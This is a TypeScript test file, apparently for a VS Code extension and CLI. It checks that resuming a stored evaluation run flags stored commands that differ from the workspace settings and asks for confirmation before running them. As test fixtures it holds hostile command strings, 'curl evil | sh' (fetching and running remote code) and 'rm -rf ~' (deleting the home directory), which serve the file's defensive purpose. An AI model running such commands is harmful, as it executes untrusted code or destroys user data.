// What a resume would run that the workspace does not: the comparison, the CLI's reading of
// .vscode/settings.json, and the extension's modal (driven against a minimal `vscode` stand-in).
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import Module, { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { stripJsonComments, workspaceRunSettings } from '../../src/cli/workspaceSettings';
import { resumeDifferences } from '../../src/core/resumeCheck';
import { storedConfig } from './storedRuns';

const dirs: string[] = [];
after(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

describe('resumeDifferences', () => {
  const workspace = { evaluatorCommand: 'python3 evaluate.py', models: ['offline'], origin: 'settings' };

  it('finds nothing when the run stores what the workspace runs (model order and spaces aside)', () => {
    assert.deepEqual(resumeDifferences(storedConfig('/ws', { models: ['b', 'a'] }), { ...workspace, models: [' a', 'b'] }), []);
  });

  it('names a different evaluator command, model list and stage command', () => {
    const stored = storedConfig('/ws', { evaluatorCommand: 'curl evil | sh', models: ['openai:gpt-4o'], stages: [{ name: 'quick', command: 'rm -rf ~' }, { name: 'full' }] });
    const differences = resumeDifferences(stored, workspace);
    assert.deepEqual(differences.map((d) => [d.what, d.stored, d.workspace]), [
      ['evaluator command', 'curl evil | sh', 'python3 evaluate.py'],
      ['models', 'openai:gpt-4o', 'offline'],
      ['stage quick command', 'rm -rf ~', '(no stage runs it)'],
    ]);
    assert.deepEqual(resumeDifferences(storedConfig('/ws', { stages: [{ name: 'quick', command: 'python3 quick.py' }] }), { ...workspace, stageCommands: ['python3 quick.py'] }), []);
  });
});

describe('the CLI reads what the workspace runs', () => {
  it('flags, else .vscode/settings.json (comments, trailing commas), else the defaults', () => {
    const ws = mkdtempSync(join(tmpdir(), 'genesis-resume-check-'));
    dirs.push(ws);
    assert.deepEqual(workspaceRunSettings(ws, {}), { evaluatorCommand: 'python3 evaluate.py', models: ['offline'], stageCommands: [], origin: 'the default command, the default models' });
    mkdirSync(join(ws, '.vscode'));
    writeFileSync(join(ws, '.vscode', 'settings.json'), '{\n  // mine\n  "genesis.evaluatorCommand": "node bench.js // not a comment",\n  /* block */ "genesis.models": ["openai:gpt-4o",],\n  "genesis.stages": [{"name": "q", "command": "node q.js"}],\n}\n');
    const read = workspaceRunSettings(ws, {});
    assert.equal(read.evaluatorCommand, 'node bench.js // not a comment');
    assert.deepEqual(read.models, ['openai:gpt-4o']);
    assert.deepEqual(read.stageCommands, ['node q.js']);
    assert.equal(read.origin, '.vscode/settings.json');
    assert.equal(workspaceRunSettings(ws, { evaluator: 'x', models: ['m'] }).evaluatorCommand, 'x');
    assert.equal(stripJsonComments('{"a": "b\\"//c", /* x */ "d": [1,],}'), '{"a": "b\\"//c",  "d": [1]}');
  });
});

type ModuleLoad = (request: string, parent: unknown, isMain: boolean) => unknown;

describe('the extension asks before running a stored command that differs', () => {
  it('shows a modal naming both commands, and runs only on "Run Stored Command"', async () => {
    const shown: { message: string; options: { modal?: boolean; detail?: string }; items: string[] }[] = [];
    let answer: string | undefined;
    const stub = {
      window: {
        showWarningMessage: (message: string, options: { modal?: boolean; detail?: string }, ...items: string[]) => {
          shown.push({ message, options, items });
          return Promise.resolve(answer);
        },
      },
    };
    const loader = Module as unknown as { _load: ModuleLoad };
    const original = loader._load;
    loader._load = (request, parent, isMain) => (request === 'vscode' ? stub : original(request, parent, isMain));
    try {
      const load = createRequire(__filename);
      const { confirmStoredCommands, RUN_STORED } = load('../../src/vscode/storedCommandConfirm') as typeof import('../../src/vscode/storedCommandConfirm');
      const settings = { evaluatorCommand: 'python3 evaluate.py', models: ['offline'], stages: [] } as unknown as Parameters<typeof confirmStoredCommands>[3];
      assert.equal(await confirmStoredCommands('Resume', 'R', storedConfig('/ws'), settings), true, 'same command: no question');
      assert.equal(shown.length, 0);
      const foreign = storedConfig('/ws', { evaluatorCommand: 'curl evil | sh' });
      assert.equal(await confirmStoredCommands('Resume', 'R', foreign, settings), false, 'dismissed: not resumed');
      assert.equal(shown[0].options.modal, true);
      assert.match(shown[0].message, /Resume run R with a different evaluator command than this workspace's settings\?/);
      assert.match(shown[0].options.detail ?? '', /stored in the run: curl evil \| sh\n {2}this workspace \(settings\): python3 evaluate\.py/);
      assert.deepEqual(shown[0].items, [RUN_STORED]);
      answer = RUN_STORED;
      assert.equal(await confirmStoredCommands('Re-run', 'R', foreign, settings), true);
    } finally {
      loader._load = original;
    }
  });
});
